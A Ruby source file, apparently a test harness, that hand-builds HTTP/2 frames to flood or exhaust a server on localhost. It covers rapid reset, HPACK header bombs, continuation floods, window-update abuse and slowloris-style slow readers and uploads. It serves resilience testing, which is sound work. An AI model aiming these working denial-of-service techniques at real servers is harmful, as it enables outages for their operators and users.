# frozen_string_literal: true

# Attacks on a port for HTTP/2, each bounded in number and time, by a client that writes the bytes of its frames itself.
# Each method returns when its clients have said all they have to say; the block gets them while they still hold what
# they hold.
# SPDX-License-Identifier: MIT

require "socket"

class HTTP2Attacks
  PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
  DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = *0..9
  PRIORITY_UPDATE = 16
  END_STREAM = 1
  ACK = 1
  END_HEADERS = 4
  CALM = 11
  FLOW_CONTROL = 3
  MANY = 1200 # more than a client may send of what carries nothing
  STREAMS = 100

  def self.frame(type, flags, id, payload = "")
    [payload.bytesize >> 16, payload.bytesize & 0xffff, type, flags, id].pack("CnCCN") + payload.b
  end

  # A length of HPACK with a prefix of seven bits.
  def self.length(number)
    return number.chr if number < 127

    bytes = [127]
    number -= 127
    (bytes << (number % 128 + 128)) && number /= 128 while number >= 128
    (bytes << number).pack("C*")
  end

  def self.field(name, value)
    "\0".b + length(name.bytesize) + name.b + length(value.bytesize) + value.b
  end

  def self.block(method, path, more = {})
    { ":method" => method, ":scheme" => "http", ":path" => path, ":authority" => "a", **more }
      .map { |name, value| field(name, value) }.join
  end

  def self.get(id, path)
    frame(HEADERS, END_HEADERS | END_STREAM, id, block("GET", path))
  end

  def self.post(id, path, more = {})
    frame(HEADERS, END_HEADERS, id, block("POST", path, more))
  end

  def self.setting(number, value)
    frame(SETTINGS, 0, 0, [number, value].pack("nN"))
  end

  # A connection that has begun. What the server says is read by frames.
  class Client
    attr_reader :goaway

    def initialize(port, receive_bytes: nil)
      @socket = Socket.new(:INET, :STREAM)
      @socket.setsockopt(:SOCKET, :RCVBUF, receive_bytes) if receive_bytes
      @socket.connect(Addrinfo.tcp("127.0.0.1", port))
      @socket.setsockopt(:TCP, :NODELAY, true)
      say(PREFACE + HTTP2Attacks.frame(SETTINGS, 0, 0))
    end

    # A server that closes meanwhile is no failure of the attack.
    def say(bytes)
      @socket.write(bytes)
    rescue SystemCallError
      nil
    end

    # As much of it as the server takes.
    def say_some(bytes)
      @socket.write_nonblock(bytes, exception: false)
    rescue SystemCallError
      nil
    end

    # Reads and drops what has come.
    # @return [String, Symbol] :wait_readable: nothing has
    # @raise [EOFError] at the end
    def hear_some
      @socket.read_nonblock(65_536, exception: false) || raise(EOFError)
    end

    def to_io
      @socket
    end

    # @return [Array, nil] type, flags, stream and payload; nil at the end
    def hear
      head = @socket.read(9) or return
      high, low, type, flags, id = head.unpack("CnCCN")
      payload = @socket.read((high << 16) | low)
      @goaway = payload.unpack("NN").last if type == GOAWAY
      say(HTTP2Attacks.frame(SETTINGS, ACK, 0)) if type == SETTINGS && flags.nobits?(ACK)
      [type, flags, id, payload]
    rescue SystemCallError
      nil
    end

    # @return [String] the body of the answer
    def ask(id, path)
      body = +"".b
      say(HTTP2Attacks.get(id, path))
      while (type, flags, stream, payload = hear)
        next unless stream == id
        raise "stream #{id} was reset with #{payload.unpack1("N")}" if type == RST_STREAM

        body << payload if type == DATA
        return body if [HEADERS, DATA].include?(type) && flags.anybits?(END_STREAM)
      end
      raise EOFError, "the connection has ended"
    end

    # @return [Integer, nil] the error with which the connection has ended
    def verdict
      nil while hear
      @goaway
    end

    def close
      @socket.close
    end
  end

  # @param port [Integer]
  # @param size [Integer] how many connections a large attack has
  def initialize(port, size)
    @port = port
    @size = size
  end

  # Those that end with ENHANCE_YOUR_CALM: frames for each of many streams, from the first one on.
  FLOODS = {
    rapid_reset: ->(id) { get(id, "/") + frame(RST_STREAM, 0, id, [8].pack("N")) },
    overflowing_windows: ->(id) { post(id, "/early") + frame(WINDOW_UPDATE, 0, id, [0x7fffffff].pack("N")) },
    windows_of_nothing: ->(id) { post(id, "/early") + frame(WINDOW_UPDATE, 0, id, [1].pack("N")) },
    malformed_heads: ->(id) { frame(HEADERS, END_HEADERS | END_STREAM, id, block("GET", "/", "X-Upper" => "a")) },
    wrong_lengths: ->(id) { post(id, "/size", "content-length" => "3") + frame(DATA, END_STREAM, id, "ab") },
    resets_of_old_streams: ->(id) { (id == 1 ? get(1, "/") : "") + frame(RST_STREAM, 0, 1, [8].pack("N")) },
    continuations: ->(id) { id == 1 ? frame(HEADERS, 0, 1, block("GET", "/")) : frame(CONTINUATION, 0, 1) },
    settings: ->(_) { frame(SETTINGS, 0, 0) },
    pings: ->(_) { frame(PING, 0, 0, "12345678") },
    empty_data: ->(id) { (id == 1 ? post(1, "/size") : "") + frame(DATA, 0, 1) },
    priorities: ->(id) { frame(PRIORITY, 0, id, [0, 16].pack("NC")) },
    priority_updates: ->(id) { frame(PRIORITY_UPDATE, 0, 0, [id].pack("N") + "u=1") },
    unknown_frames: ->(_) { frame(0xee, 0, 0) },
    tiny_windows: ->(_) { frame(WINDOW_UPDATE, 0, 0, [1].pack("N")) },
    bombs: lambda { |id|
      table = id == 1 ? "\x40\x01x".b + length(4000) + ("a" * 4000) : ""
      id < 9 ? frame(HEADERS, END_HEADERS | END_STREAM, id, block("GET", "/") + table + ("\xbe".b * 12_000)) : ""
    }
  }.freeze

  # @return [String] what one client of that flood says
  def self.flood(name)
    Array.new(MANY) { |index| instance_exec((2 * index) + 1, &FLOODS.fetch(name)) }.join
  end

  FLOODS.each_key do |name|
    define_method(name) do |&block|
      text = self.class.flood(name)
      block.call(clients([@size / 20, 1].max) { |client| client.say(text) })
    end
  end

  # Those that stay: how many times fewer clients than `size` a large attack has, and what each of them says. Those that
  # read nothing have small buffers.
  STAYING = {
    half_heads: [1, -> { frame(HEADERS, 0, 1, block("GET", "/")) }],
    silent_streams: [5, -> { each_stream { |id| post(id, "/size") } }],
    slow_uploads: [5, -> { each_stream { |id| post(id, "/size") + frame(DATA, 0, id, "a") } }],
    closed_windows: [10, -> { unread(0) }],
    windows_of_a_byte: [10, -> { unread(1) }],
    slow_readers: [10, -> { unread(1 << 30) }],
    streams_beyond_the_limit: [20, -> { each_stream(5000) { |id| get(id, "/answer") } }],
    idle: [1, -> { "" }]
  }.freeze
  UNREAD = %i[closed_windows windows_of_a_byte slow_readers].freeze

  def self.each_stream(count = STREAMS, &block)
    Array.new(count) { |index| block.call((2 * index) + 1) }.join
  end

  def self.unread(window)
    setting(4, window) + frame(WINDOW_UPDATE, 0, 0, [1 << 30].pack("N")) + each_stream { |id| get(id, "/answer") }
  end

  # @return [Client] one that stays, when it has said what it says; they acknowledge no settings
  def self.begin_one(name, port)
    text = (@texts ||= {})[name] ||= instance_exec(&STAYING.fetch(name).last)
    Client.new(port, receive_bytes: UNREAD.include?(name) ? 4096 : nil).tap { |client| client.say_some(text) }
  end

  STAYING.each do |name, (fewer, _)|
    define_method(name) do |&block|
      block.call(Array.new([@size / fewer, 1].max) { self.class.begin_one(name, @port) })
    end
  end

  private

  def clients(count, &block)
    Array.new(count) { Client.new(@port) }.each(&block)
  end
end
